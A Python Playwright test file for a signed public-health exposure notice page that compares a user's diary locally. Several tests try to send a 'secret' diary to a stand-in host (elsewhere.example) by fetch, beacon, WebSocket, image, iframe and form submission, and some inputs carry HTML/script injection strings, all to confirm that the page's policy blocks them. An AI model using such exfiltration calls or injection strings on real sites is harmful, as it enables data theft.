"""The page in a real browser whose every connection goes to a recorder: it compares, and nothing leaves it.

Skipped where Debian's chromium is not installed.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import socket
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, BrowserContext, Page, expect
from tests.chromium import launched
from tests.exposure.lists import signed

from garim.core.vkey import Kind
from garim.exposure.mix import Risk, Window
from garim.exposure.notice import Notice
from garim.exposure.notice_page import page as drawn
from garim.ledger import keys

SIGNER, OTHER = keys.new("health.city.example", Kind.ED25519), keys.new("health.city.example", Kind.ED25519)
DAY = date(2026, 11, 20)
HALL, MARKET, PARK = "Central Station, main hall", "길음시장", '<img src=x> "Park" & {{script}} </script>'
NOTICE = Notice(
    by="City of Examples 보건소",
    advice="Call 1339 </script><b>.",
    made=date.today() - timedelta(days=1),
    until=date.today() + timedelta(days=13),
    time_zone="Asia/Seoul",
    windows=(
        Window(DAY, 9, 10, HALL, Risk.HIGH),
        Window(DAY, 14, 15, PARK, Risk.LOW),
        Window(DAY, 14, 15, MARKET, Risk.MEDIUM),
        Window(DAY + timedelta(days=1), 23, 24, HALL, Risk.HIGH),
    ),
)

Open = Callable[[str], Page]


class Recorder:
    """A proxy to nowhere: keeps what each caller sends first, and answers nothing. A caller counts from its call on."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._door = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._door.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                caller, _ = self._door.accept()
            except OSError:
                return
            self.heard.append(b"")
            threading.Thread(target=self._hear, args=(caller, len(self.heard) - 1), daemon=True).start()

    def _hear(self, caller: socket.socket, number: int) -> None:
        with caller, contextlib.suppress(OSError):
            self.heard[number] = caller.recv(4096)

    def close(self) -> None:
        self._door.close()


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    made = Recorder()
    yield made
    made.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with launched("--disable-default-apps") as chromium:
        yield chromium


def listened(browser: Browser, recorder: Recorder, **more: Any) -> BrowserContext:
    """A context: all that goes out goes to the recorder, to this machine too; the browser's own talk does not."""
    proxy: Any = {"server": f"http://127.0.0.1:{recorder.port}", "bypass": "<-loopback>"}
    return browser.new_context(proxy=proxy, **({"locale": "en-GB"} | more))


def opener(page: Page, folder: Path, complaints: list[str]) -> Open:
    """What opens a list in `page`, whose `complaints` from then on are kept."""
    path = folder / "notice.html"
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("request", lambda asked: complaints.extend([] if asked.url == path.as_uri() else [asked.url]))

    def goto(html: str) -> Page:
        path.write_text(html, "utf-8")
        page.goto(path.as_uri())
        page.wait_for_selector("#signature:not(.checking)")  # at once; expect would look again in 0.1 s, 0.25 s, ...
        return page

    return goto


@dataclass
class Desk:
    """One page and its recorder for all that read a list: a renderer of its own for each would be most of the time."""

    page: Page
    recorder: Recorder
    open: Open
    complaints: list[str]


@pytest.fixture(scope="module")
def desk(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    recorder = Recorder()
    context = listened(browser, recorder, viewport={"width": 1000, "height": 800})
    page, complaints = context.new_page(), list[str]()
    yield Desk(page, recorder, opener(page, tmp_path_factory.mktemp("page"), complaints), complaints)
    context.close()
    assert complaints == []  # nor on leaving
    assert recorder.heard == []
    recorder.close()


@pytest.fixture
def opened(desk: Desk) -> Iterator[Open]:
    """Opens a page from disk; red where it complains, asks for anything but itself, or anything is heard of it."""
    yield desk.open
    desk.page.goto("about:blank")  # what it still had to say is heard by then
    complaints, heard = list(desk.complaints), list(desk.recorder.heard)
    desk.complaints.clear()
    desk.recorder.heard.clear()
    assert complaints == []
    assert heard == []


def made(notice: Notice = NOTICE) -> str:
    return drawn(signed(notice, SIGNER), SIGNER.vkey)


def enter(page: Page, place: str, day: date, start: str, end: str) -> None:
    page.get_by_label("Place").select_option(place)
    page.get_by_label("Day").select_option(day.isoformat())
    page.get_by_label("From").fill(start)
    page.get_by_label("Until").fill(end)
    page.get_by_role("button", name="Compare").click()


def load(page: Page, text: str) -> None:
    diary = {"name": "diary.csv", "mimeType": "text/csv", "buffer": text.encode()}
    page.locator("#diary").set_input_files(diary)  # type: ignore[arg-type]  # the shape that playwright asks for


# ---- nothing leaves


def test_the_recorder_hears_whatever_a_page_sends(browser: Browser, recorder: Recorder) -> None:
    """Without this, silence would prove nothing."""
    context = listened(browser, recorder)
    page = context.new_page()
    page.evaluate("fetch('http://elsewhere.example/?diary=secret').catch(() => 0)")
    page.evaluate("fetch('http://127.0.0.1:8099/?diary=secret').catch(() => 0)")
    context.close()
    heard = b"".join(recorder.heard)
    assert heard.count(b"diary=secret") >= 2


def test_nothing_that_is_entered_leaves_the_page(opened: Open) -> None:
    page = opened(made())
    before = page.evaluate("history.length")
    enter(page, HALL, DAY, "09:20", "09:40")
    load(page, f"2026-11-20, 14:10, 14:20, {MARKET}\n")
    expect(page.locator("#results li")).to_have_count(2)
    page.get_by_role("button", name="한국어").click()
    page.get_by_role("button", name="입력한 내용 지우기").click()
    expect(page.locator("#results li")).to_have_count(0)
    kept = page.evaluate("[localStorage.length, sessionStorage.length, document.cookie, location.href, history.length]")
    assert kept[:3] == [0, 0, ""] and kept[3].endswith("/notice.html") and kept[4] == before


def test_not_even_a_script_of_the_page_could_send_it(browser: Browser, recorder: Recorder, tmp_path: Path) -> None:
    """What a fault of ours, or an extension, might try: each way out is shut by the page's own policy."""
    context = listened(browser, recorder)
    complaints: list[str] = []
    page = opener(context.new_page(), tmp_path, complaints)(made())
    away = "http://elsewhere.example/?diary=secret"
    page.evaluate(
        """async (away) => {
            const failed = await fetch(away).then(() => false, () => true);
            if (!failed) throw new Error("fetched");
            navigator.sendBeacon(away, "secret");
            try { new WebSocket(away.replace("http", "ws")); } catch { /* refused at once */ }
            try { new EventSource(away); } catch { /* refused at once */ }
            new Image().src = away;
            for (const [tag, name] of [["script", "src"], ["iframe", "src"], ["link", "href"], ["object", "data"]]) {
              const node = document.createElement(tag);
              node.rel = "stylesheet";
              node[name] = away;
              document.body.append(node);
            }
            document.body.insertAdjacentHTML("beforeend", `<p style="background: url(${away})">x</p>`);
            const form = document.createElement("form");
            form.action = away;
            document.body.append(form);
            form.submit();
        }""",
        away,
    )
    page.wait_for_timeout(500)
    context.close()
    # before its policy refuses a frame or a form, Chromium opens a connection on speculation: not a byte goes over it
    assert b"".join(recorder.heard) == b""
    assert sum("Content Security Policy" in complaint for complaint in complaints) >= 8


# ---- the signature


def test_a_list_as_it_was_signed_holds(opened: Open) -> None:
    page = opened(made())
    expect(page.locator("#signature")).to_have_class("holds")
    expect(page.locator("#signature")).to_contain_text("just as health.city.example signed it")
    page.get_by_text("How to be sure that it is theirs").click()
    expect(page.locator("#vkey")).to_have_text(str(SIGNER.vkey))
    expect(page.locator("#by")).to_have_text(NOTICE.by)
    expect(page.locator("#test")).to_be_hidden()
    rows = page.locator("#list tr").all_inner_texts()
    assert [re.split(r"[\t\n]+", row.strip())[:2] for row in rows] == [
        [f"{window.day} {window.start:02}:00\u2013{window.end:02}:00", window.place] for window in NOTICE.windows
    ]


NOTE = signed(NOTICE, SIGNER)
TEXT, _, LINE = NOTE.partition("\n\n")
FORGED = {
    "another hour": NOTE.replace('"from":9', '"from":8'),
    "another place": NOTE.replace("Central", "Southern"),
    "a signature of another key": signed(NOTICE, OTHER),
    "another's line under our name": TEXT + "\n\n" + signed(replace(NOTICE, by="X"), SIGNER).partition("\n\n")[2],
    "no signature": TEXT + "\n\n",
    "a line more that is false": NOTE + signed(replace(NOTICE, by="X"), SIGNER).partition("\n\n")[2],
    "no note": TEXT,
    "a line that is none": TEXT + "\n\nnothing of the kind\n",
}


@pytest.mark.parametrize("note", FORGED.values(), ids=FORGED.keys())
def test_a_forged_list_is_not_compared_with(opened: Open, note: str) -> None:
    page = opened(drawn(note, SIGNER.vkey))
    expect(page.locator("#signature")).to_have_class("false")
    expect(page.locator("#signature")).to_contain_text("The signature is false")
    expect(page.locator("#matching")).to_be_hidden()
    assert page.locator("#list tr").count() == 0


def test_a_key_whose_id_is_not_its_own_is_refused(opened: Open) -> None:
    html = made()
    other = str(SIGNER.vkey).replace(SIGNER.vkey.id.hex(), "00000000")
    page = opened(html.replace(str(SIGNER.vkey), other))
    expect(page.locator("#signature")).to_have_class("false")


@pytest.mark.parametrize(
    "without",
    [
        "Object.defineProperty(window, 'crypto', {value: undefined})",
        "Object.defineProperty(crypto, 'subtle', {value: undefined})",
        "crypto.subtle.importKey = () => Promise.reject(new DOMException('no Ed25519', 'NotSupportedError'))",
    ],
)
def test_a_browser_that_cannot_check_says_so(
    browser: Browser, recorder: Recorder, tmp_path: Path, without: str
) -> None:
    context = browser.new_context(locale="en-GB")
    context.add_init_script(without)
    page = opener(context.new_page(), tmp_path, [])(made())
    expect(page.locator("#signature")).to_have_class("unchecked")
    expect(page.locator("#signature")).to_contain_text("cannot check the signature")
    enter(page, HALL, DAY, "09:20", "09:40")
    expect(page.locator("#results li")).to_have_count(1)
    context.close()


# ---- the comparison


def test_what_is_typed_is_compared(opened: Open) -> None:
    page = opened(made())
    expect(page.locator("#verdict")).to_have_text("You have entered nothing yet.")
    for start, end in (("08:00", "09:00"), ("10:00", "11:00")):  # up to the window, and from its end
        enter(page, HALL, DAY, start, end)
    enter(page, HALL, DAY + timedelta(days=1), "09:00", "10:00")
    enter(page, MARKET, DAY, "09:00", "10:00")
    expect(page.locator("#verdict")).to_have_text("No match: of the 4 stays that you entered, none is on the list.")
    enter(page, HALL, DAY, "08:00", "09:01")
    expect(page.locator("#verdict")).to_contain_text("You were there in one of the listed hours.")
    expect(page.locator("#verdict")).to_contain_text(NOTICE.advice)
    expect(page.locator("#results li")).to_have_text(f"{HALL}2026-11-20, 09:00\u201310:00 Risk: high")
    enter(page, HALL, DAY + timedelta(days=1), "23:30", "00:00")
    expect(page.locator("#verdict")).to_contain_text("You were there in 2 of the listed hours.")


def test_what_is_missing_is_asked_for(opened: Open) -> None:
    page = opened(made())
    page.get_by_role("button", name="Compare").click()
    expect(page.locator("#lacks")).to_have_text("Choose a place.")
    expect(page.locator("#place")).to_be_focused()
    page.get_by_label("Place").select_option(HALL)
    page.get_by_role("button", name="Compare").click()
    expect(page.locator("#lacks")).to_have_text("Say from when until when.")
    expect(page.locator("#from")).to_be_focused()
    enter(page, HALL, DAY, "10:00", "09:00")
    expect(page.locator("#lacks")).to_contain_text("Enter a stay over midnight as two")
    enter(page, HALL, DAY, "09:00", "09:30")
    expect(page.locator("#lacks")).to_be_empty()
    expect(page.locator("#results li")).to_have_count(1)


def test_a_diary_is_loaded(opened: Open) -> None:
    page = opened(made())
    load(
        page,
        "day,from,until,place\r\n"
        "# my week\r\n"
        '2026-11-20,9:30,9:45,"central station  MAIN hall"\r\n'
        "2026-11-20;14:00;14:30;길음시장 입구\r\n"
        "2026-11-20\t18:00\t19:00\tmy aunt's\r\n"
        "2026-11-31,09:00,10:00,Central Station\r\n"
        "2026-11-20,10:00,09:00,Central Station\r\n"
        "yesterday 3 o'clock\r\n",
    )
    expect(page.locator("#verdict .met")).to_contain_text("You were there in one of the listed hours.")
    expect(page.locator("#verdict")).to_contain_text("One listed hour may be of the same place under another name")
    expect(page.locator("#verdict .error")).to_contain_text("not compared: line 6, 7, 8.")
    found = page.locator("#results li").all_inner_texts()
    assert HALL in found[0] and "You wrote “길음시장 입구”: is it this place?" in found[1] and len(found) == 2


def test_a_file_that_is_no_diary_says_so(opened: Open) -> None:
    page = opened(made())
    load(page, "day,from,until,place\n")
    expect(page.locator("#lacks")).to_have_text("There is no stay in this file.")
    load(page, "x" * (1 << 20) + "x")
    expect(page.locator("#lacks")).to_have_text("This file is too long for a diary.")


def test_names_and_advice_are_never_markup(opened: Open) -> None:
    page = opened(made())
    load(page, f"2026-11-20,14:00,15:00,{PARK}\n2026-11-20,14:00,15:00,길음시장 <img src=y>\n")
    expect(page.locator("#results li")).to_have_count(2)
    assert page.locator("img, #verdict b").count() == 0
    expect(page.locator("#results li").first).to_contain_text(PARK)


WORDS = st.text(st.characters(codec="utf-8", exclude_characters="\n\r\x00\u2028\u2029"), max_size=30)


def test_each_diary_finds_what_python_finds(opened: Open) -> None:
    """By sets of minutes, and for any stays: the page and this test agree."""
    page = opened(made())
    stay = st.tuples(
        st.sampled_from([DAY, DAY + timedelta(days=1)]),
        st.integers(0, 1439),
        st.integers(1, 1440),
        st.sampled_from([HALL, MARKET, "my aunt's"]),
    ).filter(lambda each: each[1] < each[2])

    @settings(max_examples=60, deadline=None)
    @given(st.lists(stay, max_size=5))
    def agree(stays: list[tuple[date, int, int, str]]) -> None:
        text = io.StringIO()
        for day, start, end, place in stays:
            clocks = [f"{at // 60:02}:{at % 60:02}" for at in (start, end)]
            csv.writer(text).writerow([day, *clocks, place])
        wanted = [
            f"{window.place}|{window.day}|{window.start}"
            for window in NOTICE.windows
            if any(
                (day, place) == (window.day, window.place)
                and set(range(start, end)) & set(range(window.start * 60, window.end * 60))
                for day, start, end, place in stays
            )
        ]
        found = page.evaluate(
            "text => met(list.windows, readDiary(text).stays).map(({window: w}) => `${w.place}|${w.day}|${w.from}`)",
            text.getvalue(),
        )
        assert found == wanted

    agree()


def test_no_diary_breaks_the_page(opened: Open) -> None:
    page = opened(made())

    @settings(max_examples=60, deadline=None)
    @given(st.lists(WORDS | WORDS.map(lambda text: f"2026-11-20,09:00,10:00,{text}")).map("\n".join))
    def read(text: str) -> None:
        found = page.evaluate("text => readDiary(text)", text)
        assert all(set(stay) == {"day", "from", "to", "place"} for stay in found["stays"])

    read()


# ---- for people


@pytest.mark.parametrize("language", ["en-GB", "ko-KR"])
def test_it_fits_a_phone_in_either_language(browser: Browser, tmp_path: Path, language: str) -> None:
    context = browser.new_context(viewport={"width": 320, "height": 700}, locale=language)
    page = opener(context.new_page(), tmp_path, [])(made())
    load(page, f"2026-11-20,09:00,15:00,{HALL}\n2026-11-20,09:00,15:00,{MARKET} 2\n")
    assert page.evaluate("document.documentElement.lang") == language[:2]
    shown, hidden = ("en", "ko") if language == "en-GB" else ("ko", "en")
    expect(page.locator(f"h1 [lang={shown}]")).to_be_visible()
    expect(page.locator(f"h1 [lang={hidden}]")).to_be_hidden()
    small = (
        "[...document.querySelectorAll('button, select, input')].filter((e) => e.offsetHeight && e.offsetHeight < 40)"
    )
    for width in (320, 375, 1000):
        page.set_viewport_size({"width": width, "height": 700})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        assert page.evaluate(f"{small}.length") == 0
    context.close()


def test_it_is_used_with_the_keyboard_alone(opened: Open) -> None:
    page = opened(made())
    page.locator("#place").focus()
    page.keyboard.type("Cen")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    page.keyboard.type("0930AM")
    page.locator("#to").focus()
    page.keyboard.type("0945AM")
    page.keyboard.press("Enter")
    expect(page.locator("#results li")).to_have_count(1)


def test_each_field_has_a_name_and_each_answer_is_announced(opened: Open) -> None:
    page = opened(made())
    names = {"place": "Place", "day": "Day", "from": "From", "to": "Until", "diary": "Diary file"}
    page.get_by_text("Load a diary from a file").click()
    for id_, name in names.items():
        assert f'"{name}"' in page.locator(f"#{id_}").aria_snapshot()
    for place in ("#verdict", "#signature"):
        expect(page.locator(place)).to_have_attribute("role", "status")
    expect(page.locator("#lacks")).to_have_attribute("role", "alert")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_from_its_ground(browser: Browser, tmp_path: Path, scheme: str) -> None:
    """WCAG 2.2, 1.4.3: 4.5 to 1 for each colour that words have, on each ground that they stand on."""
    context = browser.new_context(color_scheme=scheme)  # type: ignore[arg-type]  # one of its words
    page = opener(context.new_page(), tmp_path, [])(made())
    value = "name => getComputedStyle(document.documentElement).getPropertyValue(name).trim()"
    paper = {name: page.evaluate(value, f"--{name}") for name in ("paper", "pale", "wash", "redwash")}
    pairs = [("ink", ground) for ground in paper] + [("soft", "paper"), ("soft", "pale"), ("onmark", "mark")]
    pairs += [(word, ground) for word in ("high", "medium", "low") for ground in ("paper",)]
    pairs += [("high", "redwash"), ("high", "pale")]
    for ink, ground in pairs:
        one, other = (luminance(page.evaluate(value, f"--{name}")) for name in (ink, ground))
        assert (max(one, other) + 0.05) / (min(one, other) + 0.05) >= 4.5, (ink, ground)
    context.close()


def luminance(colour: str) -> float:
    digits = colour.removeprefix("#")
    digits = digits if len(digits) == 6 else "".join(2 * digit for digit in digits)
    parts = [int(digits[n : n + 2], 16) / 255 for n in (0, 2, 4)]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return sum(share * part for share, part in zip((0.2126, 0.7152, 0.0722), linear, strict=True))


def test_a_list_for_tests_and_one_that_is_over_say_so(opened: Open) -> None:
    page = opened(made(replace(NOTICE, test=True)))
    expect(page.locator("#test")).to_contain_text("TEST. This list was made for tests.")
    yesterday = date.today() - timedelta(days=1)
    page = opened(made(replace(NOTICE, until=yesterday)))
    expect(page.locator("#over")).to_contain_text(f"it counted until {yesterday}")
    page = opened(made(replace(NOTICE, until=date.today())))
    expect(page.locator("#over")).to_be_hidden()


def test_both_languages_say_the_same_things(opened: Open) -> None:
    page = opened(made())
    words = page.evaluate("Object.fromEntries(Object.entries(WORDS).map(([k, v]) => [k, Object.keys(v)]))")
    assert words["en"] == words["ko"]
    count = "lang => document.querySelectorAll(`main [lang=${lang}]:not(button)`).length"
    assert page.evaluate(count, "en") == page.evaluate(count, "ko")
    assert json.dumps(page.evaluate("Object.keys(WORDS.ko.risk)")) == json.dumps([risk.value for risk in Risk][::-1])
